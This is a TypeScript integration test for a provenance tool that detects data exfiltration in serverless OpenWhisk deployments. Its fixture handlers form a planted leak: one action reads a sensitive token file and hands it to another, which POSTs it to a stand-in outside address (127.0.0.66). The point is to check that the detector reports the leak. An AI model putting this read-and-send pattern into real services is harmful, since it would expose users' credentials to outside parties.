// custom.provenance travels with the deployment, as a new user tries it: `provenance local start
// --store DIR` (the built bin, a real process) with its store in one folder, and a service in
// another folder deployed with the real serverless v3 CLI, with nothing telling the plugin where the
// store is (no PROVENANCE_STORE, no custom.provenance.store). The service names its token file
// sensitive; one action reads it and hands it to a second action, which POSTs it to an outside
// address (127.0.0.66). The settings reach the correlator inside the deployed actions, so
// `provenance report --json` shows the exfiltration. Both ways of capturing: with the kernel's capture
// on (the wrapper's file and socket hooks are off, the kernel's events stand in for them) and off.
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import openwhisk from 'openwhisk';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Incident } from '../upg/analyses/types';
import { assertBuilt, makeService, ROOT, sls, stopAllThenRemove } from './plugin-harness';
import { serverlessEnv, startLocalStart, startReceiver, wrappedServiceYml, type LocalStartProcess } from './platform-harness';
import { runNode } from './run-node';

const SERVICE = 'travel';
const OUTSIDE = '127.0.0.66';

describe.each([
  { capture: 'kernel', kernel: true },
  { capture: 'wrapper', kernel: false },
])('settings travel with the deployment ($capture capture)', ({ kernel }) => {
  const stops: Array<() => unknown> = [];
  const dirs: string[] = [];
  let platform: LocalStartProcess;
  let storeDir: string;
  let serviceDir: string;
  let env: Record<string, string> & { HOME: string };
  let apihost: string;
  let auth: string;
  let outsidePort: number;
  const received: string[] = [];

  beforeAll(async () => {
    assertBuilt();
    const base = fs.mkdtempSync(path.join(os.tmpdir(), 'config-elsewhere-'));
    dirs.push(base);
    storeDir = path.join(base, 'store');
    platform = await startLocalStart(storeDir, ['--idle-timeout', '120', ...(kernel ? [] : ['--no-kernel'])], base);
    stops.push(() => platform.stop());
    ({ apihost, auth } = platform);
    outsidePort = await startReceiver({ stops }, OUTSIDE, received);

    env = serverlessEnv({ dirs }, platform);
    serviceDir = makeService({
      'serverless.yml': wrappedServiceYml(SERVICE, { read: 'handlers/read.main', send: 'handlers/send.main' }, [
        '  provenance:',
        '    sensitive:',
        '      secrets: [token.json]',
      ]),
      // reads the sensitive file and hands it on: the first action of the leak
      'handlers/read.js': [
        "const fs = require('fs');",
        "const path = require('path');",
        "const openwhisk = require('openwhisk');",
        'exports.main = async (params) => {',
        "  const token = fs.readFileSync(path.join(__dirname, '..', 'vault', 'token.json'), 'utf8');",
        `  return openwhisk().actions.invoke({ name: '${SERVICE}-dev-send', blocking: true, result: true, params: { token, host: params.host, port: params.port } });`,
        '};',
        '',
      ].join('\n'),
      // sends what it was given to an outside address: the second action
      'handlers/send.js': [
        "const http = require('http');",
        'exports.main = async (params) => {',
        '  await new Promise((resolve, reject) => {',
        "    const req = http.request({ host: params.host, port: params.port, method: 'POST', path: '/collect' }, (res) => { res.resume(); res.on('end', resolve); });",
        "    req.on('error', reject);",
        '    req.end(params.token);',
        '  });',
        '  return { sent: params.token.length };',
        '};',
        '',
      ].join('\n'),
      'vault/token.json': '{"token":"s3cr3t"}\n',
    });
    dirs.push(serviceDir);
  }, 120_000);

  afterAll(async () => {
    await stopAllThenRemove(stops, dirs);
  });

  /** On failure: what the store holds of each request (the graphs name what is missing), and the platform's output. */
  async function graphsForDiagnosis(): Promise<string> {
    const provenance = (args: string[]) => runNode([path.join(ROOT, 'bin', 'provenance.js'), ...args, '--store', storeDir], { cwd: os.tmpdir() });
    const requests = JSON.parse((await provenance(['requests', '--json'])).stdout || '[]') as { request: string }[];
    const graphs = await Promise.all(requests.map(async (r) => (await provenance(['trace', r.request, '--json'])).stdout));
    return `no exfiltration found; graphs:\n${graphs.join('\n')}\nplatform:\n${platform.stdout()}\n${platform.stderr()}`;
  }

  async function report(): Promise<Incident[]> {
    const result = await runNode([path.join(ROOT, 'bin', 'provenance.js'), 'report', '--json', '--all', '--store', storeDir], { cwd: os.tmpdir() });
    expect(result.code, result.stderr).toBe(0);
    return (JSON.parse(result.stdout) as { incidents: Incident[] }).incidents;
  }

  it('a service deployed from elsewhere, with its store unknown to the plugin, is judged by its own settings', async () => {
    // the capture this case is about, not a silent fallback to the other
    expect(`${platform.stdout()}${platform.stderr()}`).toMatch(kernel ? /kernel capture on/ : /kernel capture off/);
    const deploy = await sls(serviceDir, ['deploy', '--verbose'], env, 120_000);
    expect(deploy.code, deploy.output).toBe(0);
    expect(deploy.output).not.toMatch(/uses its defaults/);
    expect(fs.existsSync(path.join(serviceDir, '.provenance'))).toBe(false);

    const ow = openwhisk({ apihost, api_key: auth });
    const result = await ow.actions.invoke({ name: `${SERVICE}-dev-read`, blocking: true, result: true, params: { host: OUTSIDE, port: outsidePort } });
    expect(result).toEqual({ sent: 19 });
    expect(received).toEqual(['{"token":"s3cr3t"}\n']);

    // detection runs shortly after the batches arrive: wait for it, but not forever
    let found: Incident[] = [];
    for (const until = Date.now() + 30_000; Date.now() < until; await new Promise((r) => setTimeout(r, 500))) {
      found = (await report()).filter((i) => i.kind === 'exfiltration');
      if (found.length) break;
    }
    expect(found, found.length ? '' : await graphsForDiagnosis()).toHaveLength(1);
    expect(found[0]).toMatchObject({
      kind: 'exfiltration',
      artifact: { kind: 'file', path: expect.stringMatching(/\/vault\/token\.json$/) },
      sink: { address: OUTSIDE, port: outsidePort },
    });
    expect(found[0]!.timeline.map((p) => p.action)).toEqual(expect.arrayContaining([expect.stringMatching(/travel-dev-read$/), expect.stringMatching(/travel-dev-send$/)]));

    // the LMS profile travels with the deployment too: however the batches were cut, no activation
    // of the request is said to lack it
    const trace = await runNode([path.join(ROOT, 'bin', 'provenance.js'), 'trace', found[0]!.requests[0]!, '--json', '--store', storeDir], { cwd: os.tmpdir() });
    expect(trace.code, trace.stderr).toBe(0);
    const graph = JSON.parse(trace.stdout) as { nodes: Array<{ kind: string; profile?: string }>; warnings?: Array<{ code: string }> };
    expect(graph.warnings?.filter((w) => w.code === 'lms-profile-missing') ?? []).toEqual([]);
    expect(graph.nodes.filter((n) => n.kind === 'activation').every((n) => n.profile)).toBe(true);
  }, 240_000);
});
